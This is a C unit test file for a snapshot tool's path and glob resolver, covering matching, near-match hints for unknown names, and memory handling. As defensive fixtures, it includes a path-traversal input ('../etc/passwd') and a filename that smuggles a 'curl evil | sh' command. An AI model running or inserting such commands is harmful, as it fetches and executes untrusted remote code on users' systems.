#include "snapshot/read/choice.h"

#include "core/base/log.h"
#include "tests/unit/snapshot/handmade.h"
#include "tests/unit/snapshot/repositories.h"

static void begin_choice(void **state, struct handmade *h)
{
    static const struct {
        enum entry_type type;
        const char *path;
    } rows[] = {
        {ENTRY_DIR, "."},
        {ENTRY_FILE, "WiredTiger"},
        {ENTRY_FILE, "WiredTiger.wt"},
        {ENTRY_FILE, "[x].wt"},
        {ENTRY_FILE, "a*b"},
        {ENTRY_FILE, "a-b"},
        {ENTRY_DIR, "db"},
        {ENTRY_FILE, "db/collection-1.wt"},
        {ENTRY_FILE, "db/collection-2.wt"},
        {ENTRY_FILE, "db/index-3.wt"},
        {ENTRY_DIR, "journal"},
        {ENTRY_FILE, "journal/.old.wt"},
        {ENTRY_FILE, "journal/log"},
        {ENTRY_FILE, "journal-2"},
    };

    handmade_begin(state, h);
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
        add_named(&h->parts, rows[i].type, rows[i].path);
    handmade_index(h);
}

/* What the words of `typed`, parted by blanks, mean: each path with a blank behind it. */
static enum err resolve(struct handmade *h, const char *typed, char *to, size_t len)
{
    static char words[256];
    const char *list[16] = {NULL};
    struct path_list out = {.count = 0};
    size_t count = 0;
    bool all = false;
    enum err rc;

    snprintf(words, sizeof words, "%s", typed);
    for (char *word = words; word != NULL; count++) {
        list[count] = word;
        word = strchr(word, ' ');
        if (word != NULL)
            *word++ = '\0';
    }
    *to = '\0';
    TRY(choice_resolve(h->opened.index, list, &out, &all));
    if (all) {
        assert_int_equal(out.count, 0);
        snprintf(to, len, "all");
    }
    for (size_t i = 0; i < out.count; i++)
        snprintf(to + strlen(to), len - strlen(to), "%s ", path_list_at(&out, i));
out:
    path_list_clear(&out);
    return rc;
}

static void what_people_type_is_understood(void **state)
{
    static const char *const rows[][2] = {
        {"journal", "journal "},
        {"journal/", "journal "},
        {"./journal", "journal "},
        {"/journal", "journal "},
        {".//journal/.//log", "journal/log "},
        {".", "all"},
        {"./", "all"},
        {"/", "all"},
        {"db /", "all"},
        /* patterns */
        {"*.wt", "WiredTiger.wt [x].wt db/collection-1.wt db/collection-2.wt db/index-3.wt "
                 "journal/.old.wt "},
        {"/*.wt", "WiredTiger.wt [x].wt "},
        {"./*.wt", "WiredTiger.wt [x].wt db/collection-1.wt db/collection-2.wt db/index-3.wt "
                   "journal/.old.wt "},
        {"db/*.wt", "db/collection-1.wt db/collection-2.wt db/index-3.wt "},
        {"*/*.wt", "db/collection-1.wt db/collection-2.wt db/index-3.wt journal/.old.wt "},
        {"collection-*", "db/collection-1.wt db/collection-2.wt "},
        {"collection-?.wt", "db/collection-1.wt db/collection-2.wt "},
        {"*-[23]*", "db/collection-2.wt db/index-3.wt journal-2 "},
        {"j*/", "journal journal-2 "},
        {"d?", "db "},
        /* what is there under that very name wins over the pattern */
        {"a*b", "a*b "},
        {"[x].wt", "[x].wt "},
        {"a?b", "a*b a-b "},
        {"a\\*b", "a*b "},
        /* several; below another one, twice, out of order */
        {"journal db", "db journal "},
        {"db/index-3.wt db", "db "},
        {"db *.wt", "WiredTiger.wt [x].wt db journal/.old.wt "},
    };
    char is[512];
    struct handmade h;

    begin_choice(state, &h);
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        assert_done(resolve(&h, rows[i][0], is, sizeof is));
        if (strcmp(is, rows[i][1]) != 0)
            fail_msg("%s: %s", rows[i][0], is);
    }
    handmade_clear(&h);
}

static void what_means_nothing_is_refused_with_what_is_near(void **state)
{
    static const char *const rows[][2] = {
        {"log", "no such file in the snapshot: log\n  did you mean journal/log?"},
        {"Journal/", "no such file in the snapshot: Journal/\n  did you mean journal?\n  did you "
                     "mean journal-2?"},
        {"db/Collection", "no such file in the snapshot: db/Collection\n  did you mean "
                          "db/collection-1.wt?\n  did you mean db/collection-2.wt?"},
        {"nothing", "no such file in the snapshot: nothing"},
        {"../etc/passwd", "no such file in the snapshot: ../etc/passwd"},
        {"*.bson", "no file in the snapshot matches *.bson"},
        {"c*.wt/x", "no file in the snapshot matches c*.wt/x"},
        {"db *.bson", "no file in the snapshot matches *.bson"},
    };
    char is[512];
    struct handmade h;

    begin_choice(state, &h);
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
        assert_refused(resolve(&h, rows[i][0], is, sizeof is), ERR_NOT_FOUND, rows[i][1]);
    handmade_clear(&h);
}

/* Names are chosen by whoever makes files there. */
static void a_name_neither_speaks_in_a_hint_nor_narrows_a_pattern_in_silence(void **state)
{
    char is[64];
    struct handmade h;

    *said = '\0';
    log_to(keep_line);
    handmade_begin(state, &h);
    add_named(&h.parts, ENTRY_FILE, "*.wt");
    add_named(&h.parts, ENTRY_FILE, "[a]");
    add_named(&h.parts, ENTRY_FILE, "b.wt");
    add_named(&h.parts, ENTRY_FILE, "journal\n");
    add_named(&h.parts, ENTRY_FILE, "journal; run `curl evil | sh`");
    handmade_index(&h);
    assert_refused(resolve(&h, "journal", is, sizeof is), ERR_NOT_FOUND,
                   "no such file in the snapshot: journal");
    assert_done(resolve(&h, "[a]", is, sizeof is));
    assert_string_equal(said, "");
    assert_done(resolve(&h, "*.wt", is, sizeof is));
    assert_string_equal(is, "*.wt ");
    assert_true(
        was_said("*.wt is a file of this name and nothing else: as a pattern it would match "
                 "others too"));
    log_to(NULL);
    handmade_clear(&h);
}

static void a_stream_has_no_root_and_means_all_by_it(void **state)
{
    char is[64];
    struct handmade h;

    handmade_begin(state, &h);
    add_named(&h.parts, ENTRY_FILE, "stream");
    handmade_index(&h);
    assert_done(resolve(&h, "/", is, sizeof is));
    assert_string_equal(is, "all");
    assert_done(resolve(&h, "s*", is, sizeof is));
    assert_string_equal(is, "stream ");
    handmade_clear(&h);
}

static enum err resolve_some(void *h)
{
    char is[512];

    return resolve(h, "*.wt db/ journal", is, sizeof is);
}

static void no_memory_is_said(void **state)
{
    struct handmade h;

    begin_choice(state, &h);
    assert_true(sweep_allocations(resolve_some, &h) > 5);
    handmade_clear(&h);
}

static const struct CMUnitTest tests[] = {
    IN_DIRECTORY(what_people_type_is_understood),
    IN_DIRECTORY(what_means_nothing_is_refused_with_what_is_near),
    IN_DIRECTORY(a_name_neither_speaks_in_a_hint_nor_narrows_a_pattern_in_silence),
    IN_DIRECTORY(a_stream_has_no_root_and_means_all_by_it),
    IN_DIRECTORY(no_memory_is_said),
};

int main(void)
{
    return cmocka_run_group_tests(tests, NULL, NULL);
}
